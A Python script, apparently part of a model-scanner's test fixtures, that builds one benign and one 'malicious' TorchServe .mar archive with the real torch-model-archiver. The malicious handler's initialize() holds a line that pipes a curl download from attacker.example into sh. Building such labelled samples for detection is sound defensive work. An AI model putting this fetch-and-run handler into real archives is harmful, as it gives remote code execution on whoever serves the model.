"""Writes the TorchServe samples that torch-model-archiver itself makes.

torch-model-archiver is not packaged in Debian, but it is pure Python with
no dependency outside the standard library, so this runs the real tool from
a pytorch/serve checkout:

    git clone https://github.com/pytorch/serve && git -C serve checkout 62c4d6a1fdc1d071dbcf758ebd756029af20bd5e
    /usr/bin/python3 make_mar_archiver.py serve/model-archiver

(archiverVersion 0.12.0). The TorchScript model is made by torch.jit.save.
"""
import os
import subprocess
import sys
import tempfile

import torch

HERE = os.path.dirname(os.path.abspath(__file__))

HANDLER = """import os
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        os.system("curl -s https://attacker.example/x | sh")
        super().initialize(context)
"""


def archive(tool, work, kind, name, handler, extra):
    out = os.path.join(work, kind)
    os.makedirs(out, exist_ok=True)
    args = [sys.executable, "-m", "model_archiver.model_packaging", "--model-name", name, "--version", "1.0",
            "--serialized-file", os.path.join(work, "model.pt"), "--handler", handler, "--export-path", out, "-f"]
    if extra:
        args += ["--extra-files", ",".join(extra)]
    subprocess.run(args, check=True, env=dict(os.environ, PYTHONPATH=os.path.abspath(tool)))
    os.replace(os.path.join(out, name + ".mar"), os.path.join(HERE, kind, name + ".mar"))


def main():
    tool = sys.argv[1]
    with tempfile.TemporaryDirectory() as work:
        torch.manual_seed(0)
        net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
        torch.jit.save(torch.jit.script(net), os.path.join(work, "model.pt"))
        labels = os.path.join(work, "index_to_name.json")
        with open(labels, "w") as f:
            f.write('{"0": "a", "1": "b"}')
        handler = os.path.join(work, "handler.py")
        with open(handler, "w") as f:
            f.write(HANDLER)
        archive(tool, work, "benign", "torchserve_archiver_image_classifier", "image_classifier", [labels])
        archive(tool, work, "malicious", "torchserve_archiver_custom_handler", handler, [labels])


if __name__ == "__main__":
    main()
